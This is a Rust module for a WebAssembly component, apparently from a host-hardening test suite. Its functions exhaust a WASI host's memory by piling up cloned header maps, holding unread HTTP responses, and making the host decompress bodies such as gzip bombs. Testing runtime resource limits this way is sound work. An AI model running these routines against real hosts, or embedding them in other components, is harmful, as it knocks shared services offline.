//! Attacks on the host's own memory: objects a component can make the host allocate outside
//! its linear memory, through plain `wasi:http` calls (wasm only).

use wasip2::http::outgoing_handler;
use wasip2::http::types::{
    Fields, FutureIncomingResponse, IncomingResponse, OutgoingRequest, Scheme,
};

/// Builds `count` header maps, each holding one value of `len` bytes, and keeps them all, with
/// a clone of each (a second handle to the same map until either changes).
pub fn fields(count: usize, len: usize) -> usize {
    let value = vec![b'a'; len];
    let mut kept = Vec::new();
    for _ in 0..count {
        let fields = Fields::new();
        let _ = fields.append("x-pad", &value);
        kept.push(fields.clone());
        kept.push(fields);
    }
    kept.len()
}

/// Sends `count` GETs to `url` at once and keeps every response without reading a byte of it.
/// Returns how many responses the host handed over.
pub fn unread(url: &str, count: usize) -> usize {
    let futures: Vec<FutureIncomingResponse> = (0..count).filter_map(|_| send(url)).collect();
    let mut held: Vec<IncomingResponse> = Vec::new();
    for future in &futures {
        future.subscribe().block();
        if let Some(Ok(Ok(response))) = future.get() {
            held.push(response);
        }
    }
    held.len()
}

/// Sends GETs to `url` one after another, `count` of them, dropping each response unread: the
/// host decodes each body (a gzip bomb, say) on the component's behalf, and the component's
/// own code does next to nothing. Returns how many responses came back.
pub fn inflate(url: &str, count: usize) -> usize {
    let mut answered = 0;
    for _ in 0..count {
        let Some(future) = send(url) else { continue };
        future.subscribe().block();
        if let Some(Ok(Ok(_response))) = future.get() {
            answered += 1;
        }
    }
    answered
}

fn send(url: &str) -> Option<FutureIncomingResponse> {
    let (scheme, rest) = url.split_once("://")?;
    let (authority, path) = match rest.split_once('/') {
        Some((a, p)) => (a, format!("/{p}")),
        None => (rest, "/".to_string()),
    };
    let request = OutgoingRequest::new(Fields::new());
    let scheme = if scheme == "https" {
        Scheme::Https
    } else {
        Scheme::Http
    };
    request.set_scheme(Some(&scheme)).ok()?;
    request.set_authority(Some(authority)).ok()?;
    request.set_path_with_query(Some(&path)).ok()?;
    outgoing_handler::handle(request, None).ok()
}
